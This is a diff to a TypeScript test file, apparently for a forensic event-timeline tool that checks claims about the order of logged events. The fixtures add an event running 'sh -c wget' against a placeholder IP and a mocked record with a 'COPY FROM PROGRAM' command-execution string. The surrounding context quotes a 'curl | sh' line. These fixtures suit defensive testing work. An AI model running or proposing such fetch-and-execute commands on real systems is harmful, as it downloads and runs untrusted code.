@@ -37,13 +37,21 @@ const view: CaseView = {
             exhibit: 'EX-001',
             member: 'EX-001/000001',
           },
+          {
+            uid: 'f',
+            from: us('2026-03-02T10:00:00Z') + 600_000n,
+            to: us('2026-03-02T10:00:00Z') + 600_000n,
+            values: { command: 'sh -c wget -q http://203.0.113.9/m' },
+            exhibit: 'EX-001',
+            member: 'EX-001/000001',
+          },
           ...Array.from({ length: 30 }, (_, i) => ({ uid: `e${i}`, values: {}, exhibit: 'EX-001', member: 'm' })),
         ] as ViewedEvent[]
       )
         .filter(({ uid }) => uids.includes(uid))
         .map((one): [string, ViewedEvent] => [one.uid, one as unknown as ViewedEvent]),
     ),
-  record: async () => '{"userAgent":"aws-cli"}',
+  record: async (uid) => (uid === 'a' ? 'aws-cli COPY x FROM PROGRAM $$wget -q  http://203.0.113.9/m$$' : '{"userAgent":"aws-cli"}'),
   count: async ({ query }) => (query === 'user:alice' ? 3 : 0),
   detection: async (id) => (id === 'd' ? { id, ruleId: 'r', title: 'Key made', level: 'high', events: 2 } : null),
   detections: async () => 4,
@@ -114,6 +122,8 @@ describe('checks', () => {
       ),
     ).toBeNull()
     expect(await struck(claim('One came before the other.', { predicates: [{ kind: 'order', events: ['a', 'b'] }] }))).toBeNull()
+    // They overlap, but the record of the one asks for the command that the other ran.
+    expect(await struck(claim('One came before the other.', { predicates: [{ kind: 'order', events: ['a', 'f', 'b'] }] }))).toBeNull()
     expect(
       await struck(
         claim('The script says "curl http://203.0.113.9/x | sh".', {
@@ -151,6 +161,11 @@ describe('checks', () => {
     [
       'an order of intervals that overlap',
       claim('One came before the other.', { predicates: [{ kind: 'order', events: ['a', 'c'] }] }),
+      /not surely/,
+    ],
+    [
+      'an order of events that overlap, the earlier of which asked for nothing',
+      claim('One came before the other.', { predicates: [{ kind: 'order', events: ['f', 'a'] }] }),
       /not surely/,
     ],
     ['an order without its query', claim('It came after the other.'), /order/],
